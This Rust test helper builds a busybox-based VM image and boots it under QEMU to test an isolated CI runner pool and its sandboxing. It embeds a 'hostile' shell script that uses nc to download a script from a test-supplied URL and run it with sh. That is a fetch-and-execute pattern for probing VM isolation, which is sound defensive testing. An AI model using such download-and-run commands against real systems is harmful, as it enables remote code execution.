//! A `linux_vm` pool for tests: a root filesystem image the test builds itself (busybox, the
//! project's guest agent, the daemon binary for `standin-runner`, the shared libraries it
//! links, and the cloud kernel's network driver), booted under QEMU's TCG: nested KVM does not
//! boot guests on these machines, software emulation does.

use std::{
    path::{Path, PathBuf},
    process::Command,
    sync::OnceLock,
};

/// The kernel the tests boot (the host's Debian cloud kernel) and its version.
fn cloud_kernel() -> Option<(PathBuf, String)> {
    let mut found: Vec<_> = std::fs::read_dir("/boot")
        .ok()?
        .flatten()
        .filter_map(|e| {
            let name = e.file_name().into_string().ok()?;
            let version = name.strip_prefix("vmlinuz-")?.to_string();
            version.contains("-cloud-").then_some((e.path(), version))
        })
        .collect();
    found.sort();
    found.pop()
}

/// How a QEMU process runs, as `/proc/<pid>/status` says.
#[derive(Debug, Clone)]
pub struct Sandbox {
    /// Its uids, all four, as the kernel says them.
    pub uids: String,
    /// Dropped to a uid of the VMs' range (1,900,000,000 and up) with no capability left.
    pub dropped: bool,
    /// Under a seccomp filter, with no_new_privs, leading its own process group.
    pub sealed: bool,
}

/// QEMU `pid`'s sandbox, from its `status` text; `None` before it dropped (still starting).
pub fn sandbox_of(pid: u32, status: &str) -> Option<Sandbox> {
    let field = |name: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .map(|v| v.trim().to_string())
            .unwrap_or_default()
    };
    let uids = field("Uid:");
    if uids.split_whitespace().next() == Some("0") {
        return None;
    }
    let dropped = uids.split_whitespace().all(|u| {
        u.parse::<u32>()
            .is_ok_and(|u| (1_900_000_000..1_901_048_576).contains(&u))
    }) && field("CapEff:").trim_start_matches('0').is_empty()
        && field("CapPrm:").trim_start_matches('0').is_empty();
    let pgid = nix::unistd::getpgid(Some(nix::unistd::Pid::from_raw(pid as i32)))
        .map(|p| p.as_raw() as u32)
        .unwrap_or(0);
    let sealed = field("Seccomp:") == "2" && field("NoNewPrivs:") == "1" && pgid == pid;
    Some(Sandbox {
        uids,
        dropped,
        sealed,
    })
}

/// The test image, built once per test run; `None` (said loudly, or a failure in CI) when
/// this host cannot boot a VM.
pub fn image() -> Option<PathBuf> {
    static IMAGE: OnceLock<Result<PathBuf, String>> = OnceLock::new();
    once(&IMAGE, build)
}

/// `cell`'s image, built by `build` the first time; `None` (said loudly, or a failure in CI)
/// when it cannot be built here.
fn once(
    cell: &OnceLock<Result<PathBuf, String>>,
    build: impl FnOnce() -> Result<PathBuf, String>,
) -> Option<PathBuf> {
    match cell.get_or_init(build) {
        Ok(path) => Some(path.clone()),
        Err(why) => {
            super::skip("linux_vm", why);
            None
        }
    }
}

/// The host's busybox (static, from busybox-static), copied to `root/bin/busybox`.
fn copy_busybox(root: &Path) -> Result<&'static str, String> {
    let busybox = ["/bin/busybox", "/usr/bin/busybox"]
        .into_iter()
        .find(|p| Path::new(p).exists())
        .ok_or("no busybox")?;
    std::fs::copy(busybox, root.join("bin/busybox")).map_err(|e| e.to_string())?;
    Ok(busybox)
}

/// An ext4 image of `size` at `image` holding `root`'s tree.
fn ext4(root: &Path, image: &Path, size: &str) -> Result<(), String> {
    let made = Command::new("mke2fs")
        .args(["-q", "-t", "ext4", "-d"])
        .arg(root)
        .arg(image)
        .arg(size)
        .status()
        .map_err(|e| e.to_string())?;
    if !made.success() {
        return Err("mke2fs -d failed".into());
    }
    Ok(())
}

fn build() -> Result<PathBuf, String> {
    for tool in [
        "qemu-system-x86_64",
        "qemu-img",
        "mke2fs",
        "busybox",
        "ldd",
        "objcopy",
    ] {
        let found = Command::new("sh")
            .args(["-c", &format!("command -v {tool}")])
            .output()
            .is_ok_and(|o| o.status.success());
        if !found {
            return Err(format!("{tool} is not installed"));
        }
    }
    let (_, version) =
        cloud_kernel().ok_or("no /boot/vmlinuz-*-cloud-* (linux-image-cloud-amd64)")?;
    let dir = std::env::temp_dir().join(format!("ephemer-vm-image-{}", std::process::id()));
    let root = dir.join("root");
    let _ = std::fs::remove_dir_all(&dir);
    for d in [
        "bin",
        "sbin",
        "dev",
        "proc",
        "sys",
        "tmp",
        "run",
        "root",
        "etc",
        "usr/local/bin",
    ] {
        std::fs::create_dir_all(root.join(d)).map_err(|e| e.to_string())?;
    }
    // busybox and every applet.
    let busybox = copy_busybox(&root)?;
    let applets = Command::new(busybox)
        .arg("--list")
        .output()
        .map_err(|e| e.to_string())?;
    for applet in String::from_utf8_lossy(&applets.stdout).lines() {
        if applet != "busybox" {
            let _ = std::os::unix::fs::symlink("busybox", root.join("bin").join(applet));
        }
    }
    std::fs::write(root.join("etc/passwd"), "root:x:0:0:root:/root:/bin/sh\n")
        .map_err(|e| e.to_string())?;
    // The project's agent, as `image build` installs it.
    let agent = Path::new(env!("CARGO_MANIFEST_DIR")).join("contrib/linux-vm/ephemer-agent");
    std::fs::copy(agent, root.join("sbin/ephemer-agent")).map_err(|e| e.to_string())?;
    // The daemon binary without its debug sections, for `standin-runner`, and its libraries.
    let daemon = root.join("usr/local/bin/ephemer-actors");
    let strip = Command::new("objcopy")
        .arg("--strip-debug")
        .arg(env!("CARGO_BIN_EXE_ephemer-actors"))
        .arg(&daemon)
        .status()
        .map_err(|e| e.to_string())?;
    if !strip.success() {
        return Err("objcopy --strip-debug failed".into());
    }
    let ldd = Command::new("ldd")
        .arg(&daemon)
        .output()
        .map_err(|e| e.to_string())?;
    for lib in String::from_utf8_lossy(&ldd.stdout)
        .split_whitespace()
        .filter(|w| w.starts_with('/'))
    {
        let to = root.join(lib.trim_start_matches('/'));
        std::fs::create_dir_all(to.parent().unwrap()).map_err(|e| e.to_string())?;
        std::fs::copy(lib, &to).map_err(|e| e.to_string())?;
    }
    let runner = root.join("opt/actions-runner");
    std::fs::create_dir_all(&runner).map_err(|e| e.to_string())?;
    write_exec(&runner.join("run.sh"), RUN_SH)?;
    write_exec(&runner.join("hostile.sh"), HOSTILE_SH)?;
    // The cloud kernel's network driver is a module its initramfs leaves out: the image's
    // hook loads it and what it needs (modules.dep's order, dependencies first), as an image
    // built for that kernel would.
    let lib = format!("/lib/modules/{version}");
    let deps = std::fs::read_to_string(format!("{lib}/modules.dep")).map_err(|e| e.to_string())?;
    let line = deps
        .lines()
        .find(|l| l.starts_with("kernel/drivers/net/virtio_net.ko"))
        .ok_or("no virtio_net in modules.dep")?;
    let (module, needs) = line
        .split_once(':')
        .ok_or("a modules.dep line without ':'")?;
    let mut order: Vec<&str> = needs.split_whitespace().rev().collect();
    order.push(module);
    let mut hook = String::from("#!/bin/sh\n");
    for m in order {
        let to = root.join("lib/modules").join(m);
        std::fs::create_dir_all(to.parent().unwrap()).map_err(|e| e.to_string())?;
        std::fs::copy(format!("{lib}/{m}"), &to).map_err(|e| e.to_string())?;
        hook.push_str(&format!("insmod /lib/modules/{m} 2>/dev/null\n"));
    }
    std::fs::create_dir_all(root.join("usr/local/sbin")).map_err(|e| e.to_string())?;
    write_exec(&root.join("usr/local/sbin/ephemer-agent-hook"), &hook)?;
    let image = dir.join("runner.img");
    ext4(&root, &image, "512M")?;
    let _ = std::fs::remove_dir_all(&root);
    Ok(image)
}

/// The hostile corpus's runner command: the attack its test serves, then the runner.
const HOSTILE_SH: &str = r#"#!/bin/sh
if [ -n "$HOSTILE_URL" ]; then
    hp=${HOSTILE_URL#http://}
    printf 'GET /attack HTTP/1.0\r\n\r\n' | nc -w 10 "${hp%:*}" "${hp#*:}" > /tmp/attack.http
    echo "HOSTILE fetched: nc said $?"
    sed '1,/^\r*$/d' /tmp/attack.http > /tmp/attack.sh
    sh /tmp/attack.sh
fi
exec /opt/actions-runner/run.sh "$@"
"#;

/// The test image's runner: says whether the disk holds an earlier job's mark (it must not:
/// each job has its own overlay), leaves its own, powers the guest off when the test's
/// `VM_TEST_OFF_URL` address says so, and runs the stand-in runner.
const RUN_SH: &str = r#"#!/bin/sh
if [ -e /etc/ephemer-test-mark ]; then
    echo "EPHEMER-TEST SAW-EARLIER-JOB $(cat /etc/ephemer-test-mark)"
else
    echo "EPHEMER-TEST FRESH-DISK"
fi
echo "$$" > /etc/ephemer-test-mark
sync
if [ -n "$VM_TEST_OFF_URL" ]; then
    (while sleep 1; do
        if wget -q -O - "$VM_TEST_OFF_URL" 2>/dev/null | grep -q off; then
            echo "EPHEMER-TEST POWERING-OFF"
            poweroff -f
        fi
    done) &
fi
cd /opt/actions-runner && exec /usr/local/bin/ephemer-actors standin-runner --root /opt/actions-runner
"#;

/// An image whose init never says hello (it sleeps): a guest that never boots, as far as the
/// daemon can tell.
pub fn hanging_image() -> Option<PathBuf> {
    static IMAGE: OnceLock<Result<PathBuf, String>> = OnceLock::new();
    once(&IMAGE, || {
        let dir = std::env::temp_dir().join(format!("ephemer-vm-hang-{}", std::process::id()));
        let root = dir.join("root");
        let _ = std::fs::remove_dir_all(&dir);
        // What the initramfs moves its mounts to before it starts the init.
        for d in ["bin", "sbin", "dev", "proc", "sys", "run", "tmp"] {
            std::fs::create_dir_all(root.join(d)).map_err(|e| e.to_string())?;
        }
        copy_busybox(&root)?;
        write_exec(
            &root.join("sbin/ephemer-agent"),
            "#!/bin/busybox sh\nwhile :; do /bin/busybox sleep 3600; done\n",
        )?;
        let image = dir.join("hang.img");
        ext4(&root, &image, "64M")?;
        Ok(image)
    })
}

fn write_exec(path: &Path, text: &str) -> Result<(), String> {
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(path, text).map_err(|e| e.to_string())?;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755))
        .map_err(|e| e.to_string())
}

/// A `linux_vm` pool booting `image` under TCG.
pub fn provider(image: &Path, max_concurrent: usize) -> String {
    pool("linux_vm", image, max_concurrent, "180s", "")
}

/// Pool `name` (label `name` besides `self-hosted`, `linux`) booting `image` under TCG, with
/// `extra` keys.
pub fn pool(
    name: &str,
    image: &Path,
    max_concurrent: usize,
    boot_timeout: &str,
    extra: &str,
) -> String {
    let label = if name == "linux_vm" { "vm" } else { name };
    format!(
        r#"
[providers.{name}]
kind = "linux_vm"
image = "{image}"
accel = "tcg"
cpus = 1
memory = "512MiB"
disk = "1GiB"
boot_timeout = "{boot_timeout}"
labels = ["self-hosted", "linux", "{label}"]
max_concurrent = {max_concurrent}
{extra}
"#,
        image = image.display()
    )
}

/// The QEMU processes running now, with their command lines.
pub fn qemus() -> Vec<(u32, String)> {
    std::fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| {
            let pid: u32 = e.file_name().to_str()?.parse().ok()?;
            let cmdline = std::fs::read(e.path().join("cmdline")).ok()?;
            let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
            cmdline.contains("qemu-system").then_some((pid, cmdline))
        })
        .collect()
}
